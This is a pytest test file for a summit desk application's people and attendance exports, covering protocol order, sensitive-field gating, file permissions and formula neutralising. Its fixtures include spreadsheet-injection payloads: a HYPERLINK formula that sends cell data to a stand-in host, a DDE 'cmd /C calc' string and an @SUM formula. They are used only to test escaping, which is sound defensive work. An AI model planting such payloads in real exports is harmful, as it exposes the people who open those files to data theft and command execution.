"""Exports for the secretariat: protocol order, no private details unless asked, no formulas."""

from __future__ import annotations

import csv
import os
import uuid
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select
from support.desk import make_context

from summit_desk.db.models import CheckIn, Person, ProgrammeSession
from summit_desk.domain.errors import PermissionDenied, SummitDeskError
from summit_desk.domain.values import CheckInKind, Role
from summit_desk.services import exporting
from summit_desk.services.context import DeskContext
from summit_desk.services.exporting import ExportService
from summit_desk.services.importing import ImportService
from summit_desk.services.tabular_write import guard_csv, unguard_csv

HEADER = ["ref", "country", "delegation", "category", "given_name_fa", "family_name_fa",
          "given_name_latin", "family_name_latin", "title_fa", "rank", "email", "phone",
          "document_no", "notes"]  # fmt: skip
PEOPLE = [
    ["A-2", "RU", "AST", "DEL", "اولگا", "ایوانوا", "Olga", "Ivanova", "", "2",
     "olga@astrakhan.ru", "+7 851 222 3344", "750012345", ""],
    ["G-2", "IR", "GIL", "DEL", "سارا", "احمدی", "Sara", "Ahmadi", "معاون", "2",
     "sara@gilan.ir", "00981312345678", "K12345678", ""],
    ["G-1", "IR", "GIL", "HOD", "علی", "رضایی", "Ali", "Rezaei", "استاندار", "1",
     "ali@gilan.ir", "+98 13 3333 4444", "K87654321", "VIP lounge"],
    ["G-3", "IR", "GIL", "DEL", "پرویز", "احمدی", "Parviz", "Ahmadi", "", "2", "", "", "", ""],
    ["B-1", "AZ", "BAK", "HOD", "", "", "=HYPERLINK(\"http://x.example/?\"&A1,\"Baku\")",
     "Əliyev", "", "1", "", "+994 12 000 0000", "", "@SUM(A1:A9)"],
]  # fmt: skip


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(raw.decode("utf-8-sig").splitlines()))


def read_xlsx(path: Path) -> list[list[openpyxl.cell.Cell]]:
    sheet = openpyxl.load_workbook(path).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


@pytest.fixture
def event(small_event: DeskContext, tmp_path: Path) -> DeskContext:
    ImportService(small_event).run(write_csv(tmp_path / "people.csv", HEADER, PEOPLE))
    return small_event


def test_people_are_listed_in_protocol_order(event: DeskContext, tmp_path: Path) -> None:
    ExportService(event).export("people", tmp_path / "out.csv")
    refs = [row[0] for row in read_csv(tmp_path / "out.csv")[1:]]
    # Iran before Russia before Azerbaijan; the head of delegation first; then in Persian
    # alphabetical order, where پرویز comes before سارا (code-point order says otherwise).
    assert refs == ["G-1", "G-3", "G-2", "A-2", "B-1"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_export_without_sensitive_details_holds_no_contact_passport_or_badge_code(
    event: DeskContext, tmp_path: Path, suffix: str
) -> None:
    out = tmp_path / f"people{suffix}"
    report = ExportService(event).export("people", out)

    if suffix == ".csv":
        rows = read_csv(out)
    else:
        rows = [[str(c.value or "") for c in row] for row in read_xlsx(out)]
    text = "\n".join("\t".join(row) for row in rows)
    for secret in ("email", "phone", "document_no", "badge_code", "@gilan.ir", "750012345",
                   "K87654321", "00981312345678", "3333 4444", "SD"):  # fmt: skip
        assert secret not in text
    assert rows[0] == list(report.columns)
    assert "badge_version" in rows[0] and rows[1][rows[0].index("badge_version")] == "1"
    assert report.rows == 5 and not report.include_sensitive


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_admin_may_export_the_sensitive_details_into_a_private_file(
    event: DeskContext, tmp_path: Path, suffix: str
) -> None:
    out = tmp_path / f"people{suffix}"
    ExportService(event).export("people", out, include_sensitive=True)

    if suffix == ".csv":
        rows = read_csv(out)
    else:
        rows = [[str(c.value or "") for c in row] for row in read_xlsx(out)]
    header, first = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert {"email", "phone", "document_no", "badge_code"} <= set(header)
    assert (first["email"], first["phone"], first["document_no"]) == (
        "ali@gilan.ir", "+98 13 3333 4444", "K87654321",
    )  # fmt: skip
    assert first["badge_code"].startswith("SD")
    assert os.stat(out).st_mode & 0o077 == 0


def test_a_desk_operator_may_not_export_sensitive_details(
    event: DeskContext, tmp_path: Path
) -> None:
    desk = make_context(event.database, role=Role.DESK, operator="maryam")
    with pytest.raises(PermissionDenied):
        ExportService(desk).export("people", tmp_path / "x.csv", include_sensitive=True)
    assert not (tmp_path / "x.csv").exists()
    ExportService(desk).export("people", tmp_path / "x.csv")
    assert os.stat(tmp_path / "x.csv").st_mode & 0o777 == 0o644


def test_a_csv_export_neutralises_formulas_but_keeps_phone_numbers(
    event: DeskContext, tmp_path: Path
) -> None:
    out = tmp_path / "people.csv"
    ExportService(event).export("people", out, include_sensitive=True)
    rows = read_csv(out)
    baku = dict(zip(rows[0], rows[-1], strict=True))

    assert baku["given_name_latin"] == '\'=HYPERLINK("http://x.example/?"&A1,"Baku")'
    assert baku["notes"] == "'@SUM(A1:A9)"
    assert baku["phone"] == "+994 12 000 0000"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "@")), cell
            assert not cell.startswith(("+", "-")) or cell.replace(" ", "").lstrip("+-").isdigit()


def test_csv_guarding_covers_tab_cr_and_signs_followed_by_text() -> None:
    assert guard_csv("\t=1") == "'\t=1"
    assert guard_csv("\rcmd") == "'\rcmd"
    assert guard_csv("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0"
    assert guard_csv("+98 (21) 1234-5678") == "+98 (21) 1234-5678"
    assert guard_csv("-") == "'-"
    assert guard_csv("Ali") == "Ali"
    assert guard_csv("'=x") == "''=x"  # so that the import takes off exactly one apostrophe
    for value in ("=1", "@x", "-2+cmd", "+98 21", "'plain", "'=x", "''@x", "'+98 21"):
        assert unguard_csv(guard_csv(value)) == value


def test_an_excel_export_has_no_formula_cells_and_shows_the_text_unchanged(
    event: DeskContext, tmp_path: Path
) -> None:
    out = tmp_path / "people.xlsx"
    ExportService(event).export("people", out, include_sensitive=True)
    workbook = openpyxl.load_workbook(out)
    sheet = workbook.worksheets[0]
    rows = [list(row) for row in sheet.iter_rows()]

    assert all(cell.data_type != "f" for row in rows for cell in row)
    header = [c.value for c in rows[0]]
    baku = dict(zip(header, rows[-1], strict=True))
    assert baku["given_name_latin"].value == '=HYPERLINK("http://x.example/?"&A1,"Baku")'
    assert baku["given_name_latin"].data_type == "s" and baku["given_name_latin"].quotePrefix
    assert baku["notes"].value == "@SUM(A1:A9)" and baku["notes"].data_type == "s"
    assert baku["phone"].value == "+994 12 000 0000" and baku["phone"].data_type == "s"
    sara = next(dict(zip(header, row, strict=True)) for row in rows if row[0].value == "G-2")
    assert sara["phone"].value == "00981312345678" and sara["rank"].value == 2
    # Laid out for Persian readers.
    assert sheet.sheet_view.rightToLeft
    assert sheet.freeze_panes == "A2"
    assert all(c.font.b for c in rows[0])
    assert sheet.column_dimensions["E"].width >= len("given_name_fa")


def test_a_failed_export_leaves_the_previous_file_whole(
    event: DeskContext, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "people.csv"
    out.write_text("yesterday's list", encoding="utf-8")

    def disk_full(path: Path, *args: object, **kwargs: object) -> None:
        path.write_text("half a li", encoding="utf-8")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(exporting, "write_table", disk_full)
    with pytest.raises(SummitDeskError) as caught:
        ExportService(event).export("people", out)

    assert caught.value.code == "file.unwritable"
    assert "No space left on device" in caught.value.message("en")
    assert out.read_text(encoding="utf-8") == "yesterday's list"
    assert not list(tmp_path.glob(".people.csv*"))  # no temporary file left behind


def test_an_unwritable_place_is_reported_in_both_languages(
    event: DeskContext, tmp_path: Path
) -> None:
    with pytest.raises(SummitDeskError) as caught:
        ExportService(event).export("people", tmp_path / "no such folder" / "people.xlsx")
    assert caught.value.code == "file.unwritable"
    assert "cannot be written" in caught.value.message("en")
    assert "نوشته نمی‌شود" in caught.value.message("fa")
    with pytest.raises(SummitDeskError) as caught:
        ExportService(event).export("people", tmp_path)  # a folder, not a file
    assert caught.value.code == "file.type"


def test_only_people_and_attendance_export_to_csv_or_xlsx(
    event: DeskContext, tmp_path: Path
) -> None:
    with pytest.raises(SummitDeskError) as caught:
        ExportService(event).export("people", tmp_path / "people.pdf")
    assert caught.value.code == "file.type"
    with pytest.raises(SummitDeskError) as caught:
        ExportService(event).export("badges", tmp_path / "people.csv")
    assert caught.value.code == "export.kind"


DAY1, DAY2 = date(2025, 11, 18), date(2025, 11, 19)


def _journal(context: DeskContext) -> None:
    """Ali arrives on day 1 at 09:12 Tehran time and enters the general panel; Sara's arrival
    on day 1 was a mistake and undone; she arrives on day 2."""
    with context.database.writer() as session, session.begin():
        ids = {ref: pid for ref, pid in session.execute(select(Person.ref, Person.id))}
        general = session.scalars(select(ProgrammeSession.id)).one()
        mistake = uuid.uuid4()
        session.add_all([
            CheckIn(kind=CheckInKind.ARRIVAL, person_id=ids["G-1"], day=DAY1, desk="desk-1",
                    at=datetime(2025, 11, 18, 5, 42, tzinfo=UTC)),
            CheckIn(kind=CheckInKind.ARRIVAL, person_id=ids["G-1"], day=DAY1, desk="desk-2",
                    at=datetime(2025, 11, 18, 7, 0, tzinfo=UTC)),
            CheckIn(kind=CheckInKind.SESSION_ENTRY, person_id=ids["G-1"], day=DAY1,
                    session_id=general, desk="hall", at=datetime(2025, 11, 18, 5, 55, tzinfo=UTC)),
            CheckIn(uuid=mistake, kind=CheckInKind.ARRIVAL, person_id=ids["G-2"], day=DAY1,
                    desk="desk-1", at=datetime(2025, 11, 18, 6, 0, tzinfo=UTC)),
            CheckIn(kind=CheckInKind.UNDO, person_id=ids["G-2"], day=DAY1, undoes=mistake,
                    at=datetime(2025, 11, 18, 6, 1, tzinfo=UTC)),
            CheckIn(kind=CheckInKind.ARRIVAL, person_id=ids["G-2"], day=DAY2, desk="desk-3",
                    at=datetime(2025, 11, 19, 4, 30, tzinfo=UTC)),
        ])  # fmt: skip


def test_attendance_shows_each_days_first_arrival_and_session_entries_in_venue_time(
    event: DeskContext, tmp_path: Path
) -> None:
    _journal(event)
    out = tmp_path / "attendance.csv"
    report = ExportService(event).export("attendance", out)

    rows = read_csv(out)
    rows = rows[: rows.index([])]  # the people; the sessions' counts follow an empty line
    header = rows[0]
    by_ref = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert {"email", "phone", "document_no", "badge_code"}.isdisjoint(header)
    assert header[-5:] == ["arrival_2025-11-18", "desk_2025-11-18", "arrival_2025-11-19",
                           "desk_2025-11-19", "session_GEN"]  # fmt: skip
    ali, sara, olga = by_ref["G-1"], by_ref["G-2"], by_ref["A-2"]
    assert (ali["arrival_2025-11-18"], ali["desk_2025-11-18"]) == ("09:12", "desk-1")
    assert (ali["session_GEN"], ali["checked_in"], ali["days_present"]) == ("09:25", "yes", "1")
    assert (sara["arrival_2025-11-18"], sara["arrival_2025-11-19"]) == ("", "08:00")
    assert (olga["checked_in"], olga["days_present"]) == ("no", "0")
    assert report.rows == 5


def test_attendance_of_one_day(event: DeskContext, tmp_path: Path) -> None:
    _journal(event)
    out = tmp_path / "day1.xlsx"
    ExportService(event).export("attendance", out, day=DAY1, include_sensitive=True)

    rows = [[c.value for c in row] for row in read_xlsx(out)]
    header = rows[0]
    assert "badge_code" in header and "arrival_2025-11-19" not in header
    sara = next(dict(zip(header, row, strict=True)) for row in rows if row[0] == "G-2")
    assert (sara["checked_in"], sara["arrival_2025-11-18"]) == ("no", None)

    with pytest.raises(SummitDeskError) as caught:
        ExportService(event).export("attendance", out, day=date(2025, 11, 20))
    assert caught.value.code == "export.day"
    assert "2025-11-18, 2025-11-19" in caught.value.message("en")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_attendance_counts_who_each_session_invited_and_who_entered_it(
    event: DeskContext, tmp_path: Path, suffix: str
) -> None:
    """The organiser's summary: each panel, how many the protocol office invited (the general
    panel's rules invite the heads of delegation) and how many came in at its door."""
    _journal(event)
    with event.database.writer() as session, session.begin():
        general = session.scalars(select(ProgrammeSession)).one()
        general.name_en = '=HYPERLINK("http://x.example","General")'  # never run as a formula
    out = tmp_path / f"attendance{suffix}"
    ExportService(event).export("attendance", out)

    if suffix == ".csv":
        rows = read_csv(out)
        people, sessions = rows[: rows.index([])], rows[rows.index([]) + 1 :]
        assert len(people) == 6  # the header and five people, as before
        name_en = sessions[1][2]
        assert name_en == guard_csv(general.name_en) and name_en.startswith("'=")
    else:
        workbook = openpyxl.load_workbook(out)
        assert workbook.sheetnames == ["attendance", "sessions"]
        sheet = workbook["sessions"]
        assert sheet.sheet_view.rightToLeft
        cells = [list(row) for row in sheet.iter_rows()]
        assert cells[1][2].data_type == "s" and cells[1][2].quotePrefix
        sessions = [[str(c.value) for c in row] for row in cells]
        name_en = sessions[1][2]
        assert name_en == general.name_en
    assert sessions[0] == list(exporting.SESSION_COLUMNS)
    line = dict(zip(sessions[0], sessions[1], strict=True))
    assert (line["session"], line["name_fa"], line["day"], line["starts"]) == (
        "GEN",
        "پنل عمومی",
        "2025-11-18",
        "09:00",
    )
    assert (line["invited"], line["entered"]) == ("2", "1")  # G-1 and B-1 invited; G-1 came
    assert len(sessions) == 2
